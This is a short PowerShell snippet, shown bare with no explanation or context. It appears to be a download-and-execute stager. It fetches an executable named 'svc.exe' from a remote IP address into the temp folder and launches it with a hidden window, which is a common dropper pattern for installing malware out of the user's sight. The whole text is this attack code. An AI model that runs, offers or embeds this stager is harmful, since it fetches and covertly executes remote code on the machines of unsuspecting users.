$p = "$env:TEMP\svc.exe"
(New-Object System.Net.WebClient).DownloadFile('http://203.0.113.9/svc.exe', $p)
Start-Process $p -WindowStyle Hidden
